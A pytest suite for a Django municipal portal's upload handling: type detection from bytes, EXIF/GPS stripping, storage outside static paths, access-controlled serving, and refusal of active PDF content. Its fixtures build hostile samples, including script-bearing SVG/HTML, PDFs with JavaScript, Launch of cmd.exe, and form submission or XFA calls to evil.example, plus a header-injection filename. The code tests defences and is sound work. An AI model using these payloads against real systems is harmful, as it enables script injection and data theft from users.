"""Uploads: size limit, type from the bytes, images re-encoded without EXIF/GPS, stored
under MEDIA_ROOT (outside the static paths) and served only to those allowed."""

import email.message
import io
import random
import struct
import warnings
import zlib
from pathlib import Path

import pytest
from django import forms
from django.conf import settings as real_settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from PIL import Image

from binjai_portal.core import uploads
from binjai_portal.core.models import Upload

GPS_IFD = 0x8825
ORIENTATION = 0x0112


# --- files as citizens send them ---------------------------------------------------


def jpeg_with_gps(size=(64, 48), orientation=None) -> bytes:
    image = Image.new("RGB", size, (200, 30, 30))
    exif = image.getexif()
    exif[0x010F] = "KameraUji"  # Make
    exif[GPS_IFD] = {1: "N", 2: (3.0, 36.0, 0.0), 3: "E", 4: (98.0, 29.0, 0.0)}  # Binjai
    if orientation:
        exif[ORIENTATION] = orientation
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def png(size=(20, 10), color=(0, 128, 255, 255)) -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", size, color).save(out, "PNG")
    return out.getvalue()


def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A well-formed PDF (xref offsets right) from the bodies of objects 1..n."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
TEXT = stream(b"BT /F1 12 Tf 72 760 Td (Surat keterangan domisili) Tj ET")


def plain_pdf() -> bytes:
    return pdf(CATALOG, PAGES, PAGE, TEXT)


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def refused(name: str, data: bytes, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        uploads.clean_upload(upload(name, data), **kwargs)
    return caught.value


@pytest.fixture
def media(settings, tmp_path):
    """Uploads go to a fresh MEDIA_ROOT; the static paths point elsewhere."""
    settings.MEDIA_ROOT = tmp_path / "var" / "uploads"
    settings.STATIC_ROOT = tmp_path / "staticfiles"
    settings.STATICFILES_DIRS = [tmp_path / "static"]
    return Path(settings.MEDIA_ROOT)


@pytest.fixture
def policy():
    """Register a policy for one test and remove it afterwards."""
    added = []

    def register(purpose, rule):
        assert purpose not in uploads._POLICIES
        uploads.register_policy(purpose, rule)
        added.append(purpose)

    yield register
    for purpose in added:
        uploads._POLICIES.pop(purpose, None)


def body(response) -> bytes:
    return b"".join(response.streaming_content)


# --- validation ----------------------------------------------------------------------


def test_an_oversized_file_is_refused_before_it_is_read(settings):
    settings.UPLOAD_MAX_BYTES = 1000
    data = jpeg_with_gps(size=(400, 400))
    assert len(data) > 1000

    error = refused("foto.jpg", data)

    assert error.code == "too_large"
    assert "Berkas terlalu besar" in error.messages[0]


def test_a_per_field_limit_overrides_the_setting(settings):
    settings.UPLOAD_MAX_BYTES = 10 * 1024 * 1024
    assert refused("surat.pdf", plain_pdf(), max_bytes=100).code == "too_large"
    assert uploads.clean_upload(upload("surat.pdf", plain_pdf()), max_bytes=10_000)


def test_a_png_is_accepted_and_re_encoded_as_png():
    clean = uploads.clean_upload(upload("denah.png", png()))

    assert clean.content_type == "image/png"
    assert clean.name == "denah.png"
    with Image.open(io.BytesIO(clean.content)) as image:
        assert image.format == "PNG"
        assert image.size == (20, 10)
        assert image.convert("RGBA").getpixel((5, 5)) == (0, 128, 255, 255)


def test_a_palette_png_keeps_its_colours():
    image = Image.new("P", (12, 12))
    image.putpalette([0, 0, 0, 220, 20, 60] + [0] * (256 * 3 - 6))
    image.paste(1, (0, 0, 12, 12))  # every pixel is palette entry 1: crimson
    out = io.BytesIO()
    image.save(out, "PNG")

    clean = uploads.clean_upload(upload("peta.png", out.getvalue()))

    with Image.open(io.BytesIO(clean.content)) as stored:
        assert stored.convert("RGB").getpixel((6, 6)) == (220, 20, 60)


def test_a_pdf_renamed_jpg_is_refused_where_only_images_are_allowed():
    data = plain_pdf()

    error = refused("foto.jpg", data, kinds=("image",))

    assert error.code == "bad_type"
    assert "dikenali dari isi berkas" in error.messages[0]


def test_a_pdf_renamed_jpg_is_kept_as_a_pdf_where_pdfs_are_allowed():
    clean = uploads.clean_upload(upload("foto.jpg", plain_pdf()))

    assert clean.content_type == "application/pdf"
    assert clean.name == "foto.pdf"  # never served as an image


@pytest.mark.parametrize(
    ("name", "data"),
    [
        (
            "peta.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)'
            b"</script><circle r='4'/></svg>",
        ),
        (
            "peta.jpg",
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
            b'onload="alert(1)"></svg>',
        ),
        ("halaman.html", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
        ("foto.jpg", b"<html><script>fetch('/akun/')</script></html>"),
        ("foto.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),  # a real type, not allowed
        ("kosong.pdf", b"just some text\n"),
    ],
)
def test_markup_with_script_and_other_types_are_refused(name, data):
    assert refused(name, data).code == "bad_type"


def test_a_jpeg_is_stored_without_its_gps_exif():
    data = jpeg_with_gps()
    with Image.open(io.BytesIO(data)) as source:  # the test file really carries GPS
        assert source.getexif().get_ifd(GPS_IFD)[2] == (3.0, 36.0, 0.0)
    assert b"Exif" in data and b"KameraUji" in data

    clean = uploads.clean_upload(upload("lokasi.jpg", data))

    assert clean.content_type == "image/jpeg"
    assert b"Exif" not in clean.content and b"KameraUji" not in clean.content
    with Image.open(io.BytesIO(clean.content)) as stored:
        assert stored.format == "JPEG"
        assert dict(stored.getexif()) == {}
        assert stored.getexif().get_ifd(GPS_IFD) == {}
        assert "exif" not in stored.info
        assert stored.size == (64, 48)


def test_the_exif_orientation_is_applied_to_the_pixels_before_the_tag_is_dropped():
    data = jpeg_with_gps(size=(40, 20), orientation=6)  # "rotate 90° clockwise to view"

    clean = uploads.clean_upload(upload("tegak.jpg", data))

    with Image.open(io.BytesIO(clean.content)) as stored:
        assert stored.size == (20, 40)
        assert ORIENTATION not in stored.getexif()


def _png_with_short_ihdr() -> bytes:
    chunk = b"\x00\x00\x00\x0a"
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", len(chunk))
        + b"IHDR"
        + chunk
        + struct.pack(">I", zlib.crc32(b"IHDR" + chunk))
        + b"\x00" * 20
    )


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("rusak.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 200),
        ("potong.jpg", jpeg_with_gps()[:300]),
        ("potong.png", png()[:40]),
        ("ihdr.png", _png_with_short_ihdr()),  # Pillow raises ValueError here
        ("rusak.webp", b"RIFF\x20\x00\x00\x00WEBPVP8 " + b"\x00" * 24),
    ],
)
def test_a_corrupt_image_is_refused_with_a_message(name, data):
    error = refused(name, data)

    assert error.code == "bad_image"
    assert "Gambar rusak" in error.messages[0]


def test_mangled_image_headers_never_raise_anything_but_a_validation_error():
    """Bad input gets a message, never a 500 (DESIGN.md): flip bytes in the headers,
    where the decoders' parsers are, keeping the magic so the type check passes."""
    rng = random.Random(2017)
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", category=UserWarning, module="PIL")  # bad EXIF
        for source in (jpeg_with_gps(), png()):
            for _ in range(1000):
                data = bytearray(source)
                for _ in range(rng.randrange(1, 4)):
                    data[rng.randrange(8, 64)] = rng.randrange(256)
                try:
                    uploads.clean_upload(upload("acak.bin", bytes(data)))
                except ValidationError:
                    pass


def test_an_image_with_too_many_pixels_is_refused():
    out = io.BytesIO()
    Image.new("1", (8000, 6000)).save(out, "PNG")  # 48 Mpx in a few kilobytes
    assert len(out.getvalue()) < 100_000

    assert refused("besar.png", out.getvalue()).code == "too_many_pixels"


# --- PDF active content ----------------------------------------------------------------


def test_a_plain_pdf_is_accepted_unchanged():
    data = plain_pdf()

    clean = uploads.clean_upload(upload("surat.pdf", data))

    assert clean.content == data
    assert clean.content_type == "application/pdf"


@pytest.mark.parametrize(
    "catalog",
    [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>> >>",
        # the same names written with #xx escapes, as malicious PDFs do
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (x) >> >>",
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>",
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>",
        # a comment that looks like a stream start must not hide what follows it
        b"<< /Type /Catalog /Pages 2 0 R %stream\n /AA << /O << /S /JavaScript /JS (x) >> >> >>",
    ],
)
def test_a_pdf_with_javascript_a_launch_action_or_an_attachment_is_refused(catalog):
    data = pdf(catalog, PAGES, PAGE, TEXT)

    error = refused("surat.pdf", data)

    assert error.code == "pdf_active"
    assert error.messages[0].startswith("PDF berisi ")
    assert "tidak dapat diterima" in error.messages[0]


def test_javascript_hidden_in_a_compressed_object_stream_is_refused():
    inner = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(b"6 0 " + inner)
    data = pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        PAGES,
        PAGE,
        TEXT,
        stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
    )
    assert b"JavaScript" not in data  # invisible to a byte search

    assert refused("surat.pdf", data).code == "pdf_active"


@pytest.mark.parametrize("compress", [True, False])
def test_an_object_stream_with_ordinary_objects_is_accepted(compress):
    inner = b"6 0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    data = pdf(
        CATALOG,
        PAGES,
        PAGE,
        TEXT,
        stream(
            zlib.compress(inner) if compress else inner,
            b"/Type /ObjStm /N 1 /First 4" + (b" /Filter /FlateDecode" if compress else b""),
        ),
    )

    assert uploads.clean_upload(upload("surat.pdf", data)).content == data


def test_javascript_in_an_uncompressed_object_stream_is_refused():
    data = pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        PAGES,
        PAGE,
        TEXT,
        stream(b"6 0 << /S /JavaScript /JS (x) >>", b"/Type /ObjStm /N 1 /First 4"),
    )

    assert refused("surat.pdf", data).code == "pdf_active"


def test_an_object_stream_that_cannot_be_inflated_is_refused():
    data = pdf(
        CATALOG,
        PAGES,
        PAGE,
        TEXT,
        stream(b"\x8a\x01 not zlib", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
    )

    error = refused("surat.pdf", data)

    assert error.code == "pdf_unreadable"


def test_a_scanned_pdf_whose_image_bytes_happen_to_contain_js_is_accepted():
    """Compressed image data is random bytes: "/JS" turns up in about one 1.5 MB scan in
    ten. Only names in the PDF's syntax count, not bytes inside a stream."""
    rng = random.Random(12)
    scan = bytes(rng.randrange(256) for _ in range(4000))
    scan = scan[:1000] + b"/JS (" + scan[1000:2000] + b"/JavaScript /Launch" + scan[2000:]
    image = stream(
        scan,
        b"/Type /XObject /Subtype /Image /Width 50 /Height 80 "
        b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode",
    )
    data = pdf(CATALOG, PAGES, PAGE, TEXT, image)

    clean = uploads.clean_upload(upload("ktp-scan.pdf", data))

    assert clean.content == data


def test_a_pdf_name_that_only_starts_like_js_is_accepted():
    data = pdf(b"<< /Type /Catalog /Pages 2 0 R /JSONData (x) /Lang (id) >>", PAGES, PAGE, TEXT)

    assert uploads.clean_upload(upload("surat.pdf", data)).content == data


# --- the form field ------------------------------------------------------------------


class PhotoForm(forms.Form):
    foto = uploads.SafeFileField(kinds=("image",), max_bytes=200_000)


def test_the_form_field_gives_the_indonesian_message_for_a_pdf_named_jpg():
    with translation.override("id"):
        form = PhotoForm(data={}, files={"foto": upload("foto.jpg", plain_pdf())})

        assert not form.is_valid()
        assert form.errors["foto"] == [
            "Jenis berkas tidak diizinkan. Unggah JPEG/PNG/WebP; jenis dikenali dari isi "
            "berkas, bukan dari namanya."
        ]


def test_the_form_field_gives_the_indonesian_message_for_a_missing_or_corrupt_file():
    with translation.override("id"):
        missing = PhotoForm(data={}, files={})
        corrupt = PhotoForm(data={}, files={"foto": upload("foto.jpg", b"\xff\xd8\xff" * 50)})

        assert not missing.is_valid() and not corrupt.is_valid()
        # Django's own "required" message, in Indonesian (its wording depends on which
        # installed app's catalogue provides it).
        assert missing.errors["foto"] == [str(forms.Field.default_error_messages["required"])]
        assert missing.errors["foto"][0].startswith("Bidang ini")
        assert corrupt.errors["foto"] == ["Gambar rusak atau tidak dapat dibaca."]


def test_the_form_field_cleans_to_a_file_without_metadata_and_limits_the_picker():
    form = PhotoForm(data={}, files={"foto": upload("lokasi.jpg", jpeg_with_gps())})

    assert form.is_valid(), form.errors
    clean = form.cleaned_data["foto"]
    assert isinstance(clean, uploads.CleanFile)
    assert b"Exif" not in clean.content
    assert 'accept="image/jpeg,image/png,image/webp"' in str(form["foto"])


# --- storage -------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_stored_upload_lives_under_media_root_not_in_the_static_paths(media, citizen):
    clean = uploads.clean_upload(upload("../../static/lokasi.jpg", jpeg_with_gps()))

    stored = uploads.upload_store(clean=clean, purpose="uji", owner=citizen)

    path = Path(stored.file.path).resolve()
    assert path.is_file()
    assert path.is_relative_to(media.resolve())
    assert not path.is_relative_to(Path(real_settings.STATIC_ROOT).resolve())
    for static_dir in real_settings.STATICFILES_DIRS:
        assert not path.is_relative_to(Path(static_dir).resolve())
    assert stored.token in path.name and "lokasi" not in path.name  # no user-chosen path
    assert path.read_bytes() == clean.content
    assert b"Exif" not in path.read_bytes()
    assert stored.original_name == "lokasi.jpg"
    assert stored.size == len(clean.content) and len(stored.sha256) == 64


@pytest.mark.django_db
def test_the_stored_file_has_no_public_address(client, media, citizen):
    clean = uploads.clean_upload(upload("lokasi.jpg", jpeg_with_gps()))
    stored = uploads.upload_store(clean=clean, purpose="uji", owner=citizen)
    relative = Path(stored.file.path).relative_to(media).as_posix()
    client.force_login(citizen)

    guesses = [f"/static/{relative}", f"/media/{relative}", f"/{relative}"]
    try:
        guesses.append(stored.file.url)  # MEDIA_URL, if set, must not be routed
    except ValueError:
        pass  # MEDIA_URL = None: storage gives no URL at all
    for guess in guesses:
        assert client.get(guess).status_code == 404, guess


def test_the_configured_media_root_is_outside_the_web_root():
    media = Path(real_settings.MEDIA_ROOT).resolve()
    for public in [real_settings.STATIC_ROOT, *real_settings.STATICFILES_DIRS]:
        public = Path(public).resolve()
        assert not media.is_relative_to(public) and not public.is_relative_to(media)


# --- the serve view ------------------------------------------------------------------


@pytest.fixture
def photo(media, citizen):
    clean = uploads.clean_upload(upload("lokasi.jpg", jpeg_with_gps()))
    return uploads.upload_store(clean=clean, purpose="uji-pengaduan", owner=citizen)


def url(upload_row: Upload) -> str:
    return reverse("core:upload", args=[upload_row.token])


@pytest.mark.django_db
def test_the_owner_gets_the_file_with_safe_headers(client, citizen, photo):
    client.force_login(citizen)

    response = client.get(url(photo))

    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in response["Content-Security-Policy"]
    assert response["Cache-Control"].startswith("private")
    data = body(response)
    assert data == Path(photo.file.path).read_bytes()
    assert b"Exif" not in data


@pytest.mark.django_db
def test_a_pdf_is_served_as_a_pdf_whatever_its_original_name(client, citizen, media):
    stored = uploads.upload_store(
        clean=uploads.clean_upload(upload("foto.jpg", plain_pdf())), purpose="uji", owner=citizen
    )
    client.force_login(citizen)

    response = client.get(url(stored))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert body(response) == plain_pdf()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name",
    [
        "surat-domisili.pdf",
        'Surat "resmi" Ñoño.pdf',
        "x\"; filename*=utf-8''jahat.html.pdf",  # a quote must not add a parameter
        "Surat \u0644\u0628\u0646\u0627\u0646 \U0001f4c4.pdf",  # beyond Latin-1
    ],
)
def test_the_download_name_survives_quotes_and_non_ascii(client, citizen, media, name):
    stored = uploads.upload_store(
        clean=uploads.clean_upload(upload(name, plain_pdf())), purpose="uji", owner=citizen
    )
    client.force_login(citizen)

    response = client.get(url(stored))

    header = email.message.Message()
    header["Content-Disposition"] = response["Content-Disposition"]
    assert header.get_content_disposition() == "inline"
    assert header.get_filename() == name


@pytest.mark.django_db
def test_a_private_upload_is_refused_to_another_citizen(client, make_citizen, photo):
    client.force_login(make_citizen(full_name="Tetangga Penasaran"))

    response = client.get(url(photo))

    assert response.status_code == 404
    assert b"KameraUji" not in response.content and b"\xff\xd8" not in response.content


@pytest.mark.django_db
def test_an_anonymous_visitor_gets_404(client, photo):
    assert client.get(url(photo)).status_code == 404


@pytest.mark.django_db
def test_an_unknown_token_gets_404(client, citizen, photo):
    client.force_login(citizen)
    assert client.get(reverse("core:upload", args=["tidak-ada-token-ini"])).status_code == 404


@pytest.mark.django_db
def test_a_row_whose_file_is_gone_gets_404_not_500(client, citizen, photo):
    Path(photo.file.path).unlink()
    client.force_login(citizen)

    assert client.get(url(photo)).status_code == 404


@pytest.mark.django_db
def test_a_registered_policy_grants_a_moderator_and_no_one_else(
    client, policy, photo, moderator, make_citizen
):
    policy(
        "uji-pengaduan",
        lambda user, upload: user.is_authenticated and user.has_role("moderator_pengaduan"),
    )

    client.force_login(moderator)
    assert client.get(url(photo)).status_code == 200

    client.force_login(make_citizen(full_name="Tetangga Penasaran"))
    assert client.get(url(photo)).status_code == 404

    client.logout()
    assert client.get(url(photo)).status_code == 404


@pytest.mark.django_db
def test_without_the_policy_the_moderator_is_refused(client, photo, moderator):
    assert "uji-pengaduan" not in uploads._POLICIES
    client.force_login(moderator)

    assert client.get(url(photo)).status_code == 404


@pytest.mark.django_db
def test_a_policy_for_one_purpose_does_not_open_another(client, policy, photo, moderator):
    policy("uji-lain", lambda user, upload: True)
    client.force_login(moderator)

    assert client.get(url(photo)).status_code == 404


# --- active PDFs built with pikepdf: one per kind -----------------------------------------


def _pikepdf_doc():
    import pikepdf

    doc = pikepdf.new()
    doc.add_blank_page(page_size=(595, 842))
    return doc, pikepdf


def _saved(doc) -> bytes:
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def _action(pk, kind, **entries):
    return pk.Dictionary(Type=pk.Name.Action, S=pk.Name(kind), **entries)


def _with_annotation(doc, pk, annotation):
    doc.pages[0].Annots = doc.make_indirect(pk.Array([doc.make_indirect(annotation)]))


def _link(pk, action):
    return pk.Dictionary(
        Type=pk.Name.Annot, Subtype=pk.Name.Link, Rect=pk.Array([72, 700, 300, 720]), A=action
    )


def _xfa(doc, pk):
    script = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b'app.launchURL("http://evil.example/")</script></event></subform></template>'
        b"</xdp:xdp>"
    )
    doc.Root.AcroForm = doc.make_indirect(
        pk.Dictionary(Fields=pk.Array(), XFA=doc.make_indirect(pk.Stream(doc, script)))
    )


def _names_javascript(doc, pk):
    js = _action(pk, "/JavaScript", JS=pk.String("app.alert(1)"))
    doc.Root.Names = pk.Dictionary(
        JavaScript=pk.Dictionary(Names=pk.Array([pk.String("init"), doc.make_indirect(js)]))
    )


def _open_action_javascript(doc, pk):
    doc.Root.OpenAction = doc.make_indirect(_action(pk, "/JavaScript", JS=pk.String("x")))


def _page_additional_action(doc, pk):
    doc.pages[0].AA = pk.Dictionary(
        O=_action(pk, "/GoTo", D=pk.Array([doc.pages[0].obj, pk.Name.Fit]))
    )


def _submit_form(doc, pk):
    _with_annotation(
        doc, pk, _link(pk, _action(pk, "/SubmitForm", F=pk.String("http://evil.example/collect")))
    )


def _import_data(doc, pk):
    _with_annotation(doc, pk, _link(pk, _action(pk, "/ImportData", F=pk.String("data.fdf"))))


def _launch(doc, pk):
    _with_annotation(doc, pk, _link(pk, _action(pk, "/Launch", F=pk.String("cmd.exe"))))


def _goto_remote(doc, pk):
    _with_annotation(
        doc,
        pk,
        _link(
            pk,
            _action(
                pk,
                "/GoToR",
                F=pk.String("\\\\evil.example\\share\\x.pdf"),
                D=pk.Array([0, pk.Name.Fit]),
            ),
        ),
    )


def _goto_embedded(doc, pk):
    _with_annotation(
        doc,
        pk,
        _link(pk, _action(pk, "/GoToE", T=pk.Dictionary(R=pk.Name.C, N=pk.String("x.pdf")))),
    )


def _rich_media(doc, pk):
    _with_annotation(
        doc,
        pk,
        pk.Dictionary(
            Type=pk.Name.Annot,
            Subtype=pk.Name.RichMedia,
            Rect=pk.Array([0, 0, 100, 100]),
            RichMediaContent=pk.Dictionary(Assets=pk.Dictionary()),
        ),
    )


def _embedded_file(doc, pk):
    doc.attachments["catatan.txt"] = pk.AttachedFileSpec(
        doc, b"isi tersembunyi", mime_type="text/plain"
    )


def _js_in_an_odd_place(doc, pk):
    """/JS in private application data a reader need not look at: still refused."""
    doc.pages[0].PieceInfo = pk.Dictionary(
        Custom=doc.make_indirect(pk.Dictionary(Private=pk.Dictionary(JS=pk.String("app.alert(1)"))))
    )


ACTIVE_KINDS = {
    "xfa-script": (_xfa, "formulir XFA"),
    "names-javascript": (_names_javascript, "skrip (JavaScript)"),
    "openaction-javascript": (_open_action_javascript, "skrip (JavaScript)"),
    "page-aa": (_page_additional_action, "tindakan otomatis"),
    "submitform": (_submit_form, "mengirim isian"),
    "importdata": (_import_data, "ImportData"),
    "launch": (_launch, "menjalankan program"),
    "gotor": (_goto_remote, "GoToR"),
    "gotoe": (_goto_embedded, "GoToE"),
    "richmedia": (_rich_media, "RichMedia"),
    "embedded-file": (_embedded_file, "lampiran tersembunyi"),
    "js-anywhere": (_js_in_an_odd_place, "skrip (JavaScript)"),
}


@pytest.mark.parametrize("kind", list(ACTIVE_KINDS))
def test_each_kind_of_active_pdf_is_refused_with_its_name(kind):
    build, words = ACTIVE_KINDS[kind]
    doc, pk = _pikepdf_doc()
    build(doc, pk)
    error = refused("izin.pdf", _saved(doc), kinds=("pdf",))
    assert error.code == "pdf_active"
    assert words in error.messages[0], error.messages[0]


def test_ordinary_pdf_features_stay_accepted():
    """A destination as /OpenAction, a web link and an AcroForm without XFA are what
    office programs write; they run nothing."""
    doc, pk = _pikepdf_doc()
    doc.Root.OpenAction = pk.Array([doc.pages[0].obj, pk.Name.Fit])
    _with_annotation(
        doc, pk, _link(pk, _action(pk, "/URI", URI=pk.String("https://binjaikota.go.id")))
    )
    doc.Root.AcroForm = pk.Dictionary(Fields=pk.Array())
    data = _saved(doc)
    assert uploads.clean_upload(upload("izin.pdf", data), kinds=("pdf",)).content == data
